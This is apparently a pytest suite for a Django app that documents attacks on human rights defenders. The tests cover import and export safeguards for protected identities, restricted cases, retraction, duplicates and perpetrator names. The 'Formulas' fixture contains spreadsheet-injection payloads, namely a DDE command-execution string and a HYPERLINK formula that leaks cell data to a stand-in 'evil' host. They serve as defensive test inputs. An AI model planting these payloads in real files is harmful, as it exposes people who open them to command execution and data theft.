"""What an import must never do (to protected people, restricted cases,
retraction, formulas, broken files, perpetrators, partial files)."""

import csv
import datetime
import io
import re
import zipfile

import pytest

from cases import services
from cases.intake import check, export, read, template, write
from cases.intake import plan as planning
from cases.models import DuplicatePair, Incident
from core import records
from organizations.models import Defender
from tests.cases.intake.rows import as_csv, plan_of, row
from tests.factories import (
    CaseFactory,
    DefenderFactory,
    IncidentFactory,
    InvolvementFactory,
    OrganizationFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db


def export_and_import(user, incidents, *, origin="export", status="verified"):
    data = export.as_csv(export.export_rows(incidents, viewer=user))
    batch, _plan = write.import_batch_prepare(
        user=user, data=data, file_name="export.csv", origin=origin, case_status=status
    )
    return batch, write.import_batch_run(batch=batch, user=user)


# 1. Protected defenders ------------------------------------------------------------------------


def test_a_protected_defender_exported_as_a_pseudonym_comes_back_as_the_same_person(coordinator):
    protected = DefenderFactory(full_name="Nombre Secreto", identity_protected=True)
    incident = IncidentFactory(defender=protected)
    SourceFactory(case=incident.case)
    exported = export.export_rows(Incident.objects.all(), viewer=coordinator)
    assert exported[0]["victima"] == protected.pseudonym

    _batch, plan = export_and_import(coordinator, Incident.objects.all())

    assert [r.action for r in plan.rows] == ["unchanged"]
    incident.refresh_from_db()
    assert incident.defender == protected
    assert Defender.objects.count() == 1


def test_a_pseudonym_in_a_new_row_names_the_protected_defender_it_stands_for(coordinator):
    protected = DefenderFactory(full_name="Nombre Secreto", identity_protected=True)
    IncidentFactory(defender=protected)
    plan = plan_of(coordinator, [row(victima=str(protected.pseudonym))])
    assert plan.rejected == [] and plan.new_defenders == {}
    assert planning.target_id(plan.rows[0], plan) == protected.pk


def test_a_pseudonym_that_cannot_be_resolved_is_rejected_never_created(documentalist):
    protected = DefenderFactory(full_name="Nombre Secreto", identity_protected=True)
    IncidentFactory(defender=protected)  # a case the documentalist is not on: hidden
    for name in (
        str(protected.pseudonym),
        "Defensor/a protegido/a #ZZZ",
        "Protected defender #000000",
    ):
        plan = plan_of(documentalist, [row(victima=name)])
        assert plan.new_defenders == {}, name
        [(column, message)] = plan.rejected[0].errors
        assert column == "victima" and "seudónimo" in message, name


# 2. Retraction ---------------------------------------------------------------------------------


def import_into(user, case, *, ref="n1", origin="O"):
    rows = [
        row(
            referencia=ref,
            fecha="05/03/2020",
            victima="",
            tipo_victima="",
            organizacion_victima="Comité Ejemplo",
            caso=f"x [{case.public_id}]",
        )
    ]
    batch, _plan = write.import_batch_prepare(
        user=user, data=as_csv(rows), file_name="x.csv", origin=origin, case_status="in_review"
    )
    write.import_batch_run(batch=batch, user=user)
    return batch


def test_retracting_an_import_leaves_a_published_case_it_added_to_alone(reviewer):
    earlier = IncidentFactory(case=CaseFactory(status="published"))
    batch = import_into(reviewer, earlier.case)
    scope = planning.retraction_scope(batch, reviewer)
    assert scope.cases == [] and scope.kept_incidents == 1 and scope.kept_cases == [earlier.case]

    assert write.import_batch_retract(batch=batch, user=reviewer, reason="equivocado") == []

    earlier.case.refresh_from_db()
    assert earlier.case.status == "published"
    batch.refresh_from_db()
    assert batch.status == "retracted"


def test_retracting_never_touches_a_restricted_case_of_another_team(documentalist, reviewer):
    restricted = CaseFactory(status="in_review", confidentiality="restricted")
    restricted.team.add(documentalist)
    IncidentFactory(case=restricted)
    batch = import_into(documentalist, restricted)
    scope = planning.retraction_scope(batch, reviewer)
    assert scope.kept_cases == [] and scope.kept_hidden_cases == 1
    versions = restricted.history.count()

    write.import_batch_retract(batch=batch, user=reviewer, reason="equivocado")

    restricted.refresh_from_db()
    assert restricted.status == "in_review" and restricted.history.count() == versions


def test_an_import_whose_case_became_restricted_to_another_team_is_not_retracted(
    documentalist, reviewer
):
    batch, _plan = write.import_batch_prepare(
        user=documentalist, data=as_csv([row()]), file_name="x.csv", case_status="in_review"
    )
    write.import_batch_run(batch=batch, user=documentalist)
    case = batch.cases.get()
    case.confidentiality = "restricted"
    records.record_save(case, user=documentalist, reason="reserva")
    case.team.add(documentalist)
    assert planning.retraction_scope(batch, reviewer).hidden_cases == 1
    with pytest.raises(Exception, match="coordinador|coordinator"):
        write.import_batch_retract(batch=batch, user=reviewer, reason="equivocado")
    case.refresh_from_db()
    assert case.status == "in_review"


# 3. Likely duplicates the importer may not know of ----------------------------------------------


@pytest.mark.parametrize("hidden", ["restricted case", "protected defender"])
def test_the_preview_does_not_count_duplicates_of_what_the_importer_may_not_see(
    documentalist, coordinator, hidden
):
    if hidden == "restricted case":
        target = {"organizacion_victima": "Comité Oculto", "victima": "", "tipo_victima": ""}
        IncidentFactory(
            case=CaseFactory(confidentiality="restricted"),
            defender=None,
            organization=OrganizationFactory(name="Comité Oculto"),
            type="threat",
            occurred_on=datetime.date(2021, 7, 2),
        )
    else:
        target = {"victima": "Testigo Reservada"}
        IncidentFactory(
            defender=DefenderFactory(full_name="Testigo Reservada", identity_protected=True),
            type="threat",
            occurred_on=datetime.date(2021, 7, 2),
        )
    rows = [row(tipo="Amenazas", caso="", **target)]
    assert plan_of(documentalist, rows).duplicates == 0
    assert plan_of(coordinator, rows).duplicates == 1

    batch, _plan = write.import_batch_prepare(
        user=documentalist, data=as_csv(rows), file_name="x.csv", case_status="in_review"
    )
    assert batch.duplicates_flagged == 0
    write.import_batch_run(batch=batch, user=documentalist)
    batch.refresh_from_db()
    assert batch.duplicates_flagged == 0
    # Flagged all the same, for those who may see both reports.
    assert DuplicatePair.objects.count() == 1
    assert DuplicatePair.objects.visible_to(documentalist).count() == 0
    assert DuplicatePair.objects.visible_to(coordinator).count() == 1


# 4. Formulas ---------------------------------------------------------------------------------


FORMULAS = row(
    referencia="=1+1",
    victima="",
    tipo_victima="",
    organizacion_victima="=cmd|' /C calc'!A0",
    perpetrador='=HYPERLINK("http://evil/?"&A1)',
    categoria_perpetrador="colectivo",
    municipio="+SUM(1,2)",
    descripcion="@SUM(A1)",
    caso="-2+3",
    fuente_medio="=1",
    fuente_url="",
)


def test_exports_never_hold_a_formula_and_read_back_the_same(reviewer):
    from openpyxl import load_workbook

    batch, _plan = write.import_batch_prepare(
        user=reviewer, data=as_csv([FORMULAS]), file_name="x.csv", case_status="in_review"
    )
    write.import_batch_run(batch=batch, user=reviewer)
    exported = export.export_rows(Incident.objects.all(), viewer=reviewer)

    text = export.as_csv(exported).decode("utf-8-sig")
    for cell in next(csv.reader(io.StringIO(text.split("\n", 1)[1]))):
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert "'=cmd|' /C calc'!A0" in text
    xlsx = export.as_xlsx(exported)
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    assert "f" not in {cell.data_type for line in sheet.iter_rows() for cell in line}

    for data, name in ((text.encode(), "export.csv"), (xlsx, "export.xlsx")):
        batch, plan = write.import_batch_prepare(
            user=reviewer, data=data, file_name=name, origin="export", case_status="in_review"
        )
        assert [r.action for r in plan.rows] == ["unchanged"], plan.rows[0].errors
    incident = Incident.objects.get()
    assert incident.organization.name == "=cmd|' /C calc'!A0"
    assert incident.description == "@SUM(A1)"


def test_the_error_file_holds_no_formula(reviewer):
    plan = plan_of(reviewer, [{**FORMULAS, "fecha": "=NOW()"}])
    text = planning.error_file(plan).decode("utf-8-sig")
    for line in list(csv.reader(io.StringIO(text)))[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line), line


# 5. Broken workbooks, 13. huge declared dimensions ----------------------------------------------


def _workbook(
    rows=(("referencia", "fecha", "tipo", "victima"), ("1", "02/07/2021", "amenazas", "Ana")),
):
    from openpyxl import Workbook

    book = Workbook()
    for values in rows:
        book.active.append(list(values))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _rewrite_sheet(data: bytes, change) -> bytes:
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = change(content)
            target.writestr(item.filename, content)
    return out.getvalue()


def _chartsheet_only() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.create_chartsheet()
    book.remove(book.active)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "make",
    [
        lambda: _rewrite_sheet(_workbook(), lambda xml: xml[: len(xml) // 2]),
        lambda: _rewrite_sheet(
            _workbook(), lambda xml: xml.replace(b"<dimension", b"<dimension foo='&bogus;'")
        ),
        _chartsheet_only,
    ],
    ids=["truncated sheet", "bad entity", "chartsheet only"],
)
def test_a_broken_workbook_is_a_clear_error_not_a_crash(make):
    with pytest.raises(template.ImportFileError, match="XLSX"):
        read.read_table(make(), "x.xlsx")


def test_a_huge_declared_dimension_reads_only_the_cells_there_are():
    data = _rewrite_sheet(
        _workbook(),
        lambda xml: re.sub(rb'<dimension ref="[^"]+" ?/>', b'<dimension ref="A1:XFD2"/>', xml),
    )
    table = read.read_table(data, "x.xlsx")
    assert [len(cells) for _line, cells in table] == [template.XLSX_MAX_COLUMNS] * 2
    assert check.parse_table(table)[0].errors == []


def test_likely_duplicates_are_found_across_new_year_and_not_beyond_the_window():
    from cases.duplicates import Report, find_pairs

    def report(key, day, precision="day"):
        return Report(key, "threat", day, precision, ("organization", "x"))

    new = [report("a", datetime.date(2021, 12, 31))]
    recorded = [
        report("b", datetime.date(2022, 1, 2)),
        report("c", datetime.date(2021, 1, 1), "year"),
        report("d", datetime.date(2022, 1, 1), "year"),
        report("e", datetime.date(2021, 12, 20)),
    ]
    assert find_pairs(new, recorded) == {("a", "b"), ("c", "a")}


# 6. Perpetrators and their acronyms --------------------------------------------------------------


def _import(user, rows, origin):
    batch, _plan = write.import_batch_prepare(
        user=user, data=as_csv(rows), file_name="x.csv", origin=origin, case_status="in_review"
    )
    return batch, write.import_batch_run(batch=batch, user=user)


def test_a_shared_acronym_never_attributes_an_attack_to_another_perpetrator(reviewer):
    official = {"categoria_perpetrador": "funcionario", "caso": ""}
    _import(reviewer, [row(perpetrador="Diosdado Cabello (PSUV)", **official)], "P1")
    batch, plan = _import(
        reviewer, [row(fecha="03/07/2021", perpetrador="Freddy Bernal (PSUV)", **official)], "P2"
    )
    assert [p.name for p in plan.new_perpetrators.values()] == ["Freddy Bernal"]
    names = Incident.objects.filter(import_batch=batch).values_list(
        "involvements__perpetrator__name", flat=True
    )
    assert list(names) == ["Freddy Bernal"]
    # The acronym alone names a perpetrator only while one perpetrator has it.
    plan = plan_of(reviewer, [row(referencia="9", perpetrador="PSUV", categoria_perpetrador="")])
    [(column, message)] = plan.rejected[0].errors
    assert column == "perpetrador" and "PSUV" in message


def test_the_acronym_alone_and_the_full_name_find_the_recorded_perpetrator(reviewer):
    from organizations.models import Perpetrator

    _import(reviewer, [row()], "P1")  # Servicio Bolivariano de Inteligencia Nacional (SEBIN)
    sebin = Perpetrator.objects.get()
    for name in ("SEBIN", "Servicio Bolivariano de Inteligencia Nacional"):
        plan = plan_of(reviewer, [row(referencia="2", perpetrador=name, categoria_perpetrador="")])
        assert plan.rejected == [] and plan.new_perpetrators == {}, name
        assert planning.perpetrator_id(plan.rows[0].perpetrators[0], plan) == sebin.pk


# 7. Partial files, 8. unchanged rows of verified cases -------------------------------------------


def _recorded_incident():
    incident = IncidentFactory(
        case=CaseFactory(status="published"),
        state="VE-I",
        municipality="Coro",
        description="Detenido en su casa.",
    )
    InvolvementFactory(incident=incident, role="ordered")
    SourceFactory(case=incident.case)
    return incident


def test_columns_missing_from_a_file_leave_those_fields_unchanged(coordinator):
    incident = _recorded_incident()
    exported = export.export_rows(Incident.objects.all(), viewer=coordinator)
    header = ["referencia", "fecha", "tipo", "victima", "organizacion_victima"]
    batch, _plan = write.import_batch_prepare(
        user=coordinator, data=as_csv(exported, header=header), file_name="x.csv", origin="x"
    )
    plan = write.import_batch_run(batch=batch, user=coordinator)
    assert [r.action for r in plan.rows] == ["unchanged"]
    # Without the role column, the recorded role stays too.
    header = [*header, "perpetrador"]
    plan = plan_of(coordinator, exported, header=header)
    assert [r.action for r in plan.rows] == ["unchanged"]
    incident.refresh_from_db()
    assert (incident.state, incident.municipality) == ("VE-I", "Coro")
    assert incident.description == "Detenido en su casa."
    assert incident.involvements.get().role == "ordered"


def test_unchanged_rows_of_a_verified_case_are_not_rejected_changed_ones_are(
    documentalist, reviewer
):
    first = row(caso="Caso siete")
    _import(documentalist, [first], "Base CDJ")
    case = Incident.objects.get().case
    services.case_transition(case=case, user=reviewer, status="verified")
    added = row(referencia="2", fecha="03/08/2021", victima="Otra Persona", caso="")

    plan = plan_of(documentalist, [first, added])
    assert [r.action for r in plan.rows] == ["unchanged", "create"]
    plan = plan_of(documentalist, [{**first, "descripcion": "otra cosa"}, added])
    assert [r.action for r in plan.rows] == ["reject", "create"]
    assert "revisor" in plan.rows[0].errors[0][1] or "reviewer" in plan.rows[0].errors[0][1]


# 15. Who sees which batches, 17. the command's exit codes ---------------------------------------


def test_batches_are_listed_to_their_uploader_coordinators_and_reviewers_only(
    client_for, documentalist, reviewer, coordinator
):
    from tests.conftest import _staff

    colleague = _staff("documentalista2", "Documentalista")
    batch, _plan = write.import_batch_prepare(
        user=documentalist, data=as_csv([row()]), file_name="secreto.csv", case_status="in_review"
    )
    assert "secreto.csv" not in client_for(colleague).get("/admin/cases/importbatch/").text
    response = client_for(colleague).get(f"/admin/cases/importbatch/{batch.pk}/change/")
    assert response.status_code in (302, 404)
    for user in (documentalist, coordinator, reviewer):
        assert "secreto.csv" in client_for(user).get("/admin/cases/importbatch/").text


def test_the_command_exits_2_for_a_missing_file_or_an_unknown_user(tmp_path):
    from django.core.management import CommandError, call_command

    with pytest.raises(CommandError) as error:
        call_command("import_incidents", str(tmp_path / "nada.csv"))
    assert error.value.returncode == 2
    path = tmp_path / "x.csv"
    path.write_bytes(as_csv([row()]))
    with pytest.raises(CommandError) as error:
        call_command("import_incidents", str(path), "--user", "nadie")
    assert error.value.returncode == 2


@pytest.mark.parametrize("model", ["Incident", "Case"])
def test_references_are_looked_up_through_their_unique_index(model):
    """A file's references, LOOKUP_BATCH at a time, are found through the partial unique index
    on (origin, reference): PostgreSQL cannot prove a list of more than 100 references
    excludes the empty one, so the query says so itself — else it reads the whole table
    (70 ms per batch at a million incidents, on every preview and import)."""
    from django.db import connection, transaction

    from cases import models
    from core.batches import in_batches

    if connection.vendor != "postgresql":
        pytest.skip("PostgreSQL's planner")
    queryset = planning.of_origin(getattr(models, model).objects.all(), "hoja-2021")
    refs = [str(n) for n in range(planning.LOOKUP_BATCH)]
    query = next(in_batches(queryset, "import_ref", refs, planning.LOOKUP_BATCH))
    sql, params = query.query.sql_with_params()
    # Unordered: else an index giving the model's order (the incidents' date index) is a
    # plan too, and on a small table it wins or not by the table's leftover size.
    assert "ORDER BY" not in sql, sql
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")  # the index, if it can be used at all
        cursor.execute("EXPLAIN " + sql, params)
        explained = "\n".join(line for (line,) in cursor.fetchall())
    assert f"{getattr(models, model)._meta.db_table}_unique_import_ref" in explained, explained


def test_a_kept_role_is_the_updated_rows_own_not_every_rows_naming_that_perpetrator(coordinator):
    """Rows naming a perpetrator alike share it; keeping an updated incident's recorded role
    (the file has no role column) must not give that role to a new row's perpetrator."""
    incident = _recorded_incident()
    exported = export.export_rows(Incident.objects.all(), viewer=coordinator)
    header = ["referencia", "fecha", "tipo", "victima", "organizacion_victima", "perpetrador"]
    added = {**exported[0], "referencia": "nuevo-1", "fecha": "01/01/2020"}
    batch, _plan = write.import_batch_prepare(
        user=coordinator, data=as_csv([*exported, added], header=header), file_name="x.csv"
    )
    plan = write.import_batch_run(batch=batch, user=coordinator)
    assert [r.action for r in plan.rows] == ["unchanged", "create"]
    assert incident.involvements.get().role == "ordered"
    new = Incident.objects.get(import_ref="nuevo-1")
    assert new.involvements.get().role == "perpetrated"


# 9. What the history and the lists say about an import ------------------------------------------


def test_the_history_names_an_import_by_its_id_never_its_file(client_for, documentalist, analyst):
    batch, _plan = write.import_batch_prepare(
        user=documentalist,
        data=as_csv([row(caso="Caso importado")]),
        file_name="Denuncias de la testigo María Pérez.csv",
        origin="Base",
    )
    write.import_batch_run(batch=batch, user=documentalist)
    incident = Incident.objects.get()
    reason = incident.history.get().history_change_reason
    assert str(batch.public_id) in reason and "Pérez" not in reason
    client = client_for(analyst)
    for url in [
        f"/admin/cases/incident/{incident.pk}/history/",
        f"/admin/cases/case/{incident.case_id}/history/",
    ]:
        assert "María Pérez" not in client.get(url).content.decode()


def test_a_list_cannot_be_filtered_by_the_origin_of_an_import(client_for, documentalist, analyst):
    batch, _plan = write.import_batch_prepare(
        user=documentalist,
        data=as_csv([row(caso="Caso importado")]),
        file_name="testigos.csv",
        origin="Denuncias de la testigo María Pérez",
    )
    write.import_batch_run(batch=batch, user=documentalist)
    client = client_for(analyst)
    for url in ["/admin/cases/case/", "/admin/cases/incident/"]:
        probe = client.get(url, {"import_origin__startswith": "Denuncias de la testigo M"})
        assert probe.status_code == 400  # Django's answer to a lookup it does not allow
    assert client.get("/admin/cases/incident/", {"type__exact": "threat"}).status_code == 200


@pytest.mark.parametrize("column", ["caso", "descripcion", "victima"])
def test_a_control_character_in_a_cell_rejects_the_row_and_names_the_column(documentalist, column):
    from tests.cases.intake.rows import errors_of

    errors = errors_of(documentalist, **{column: "Texto\x1bcon un escape"})
    assert (column, errors[0][1]) in errors and "carácter de control" in errors[0][1]


def test_tabs_and_line_breaks_in_a_cell_are_fine(documentalist):
    from tests.cases.intake.rows import errors_of

    assert errors_of(documentalist, descripcion="Primera línea\nSegunda\tcon tabulador") == []
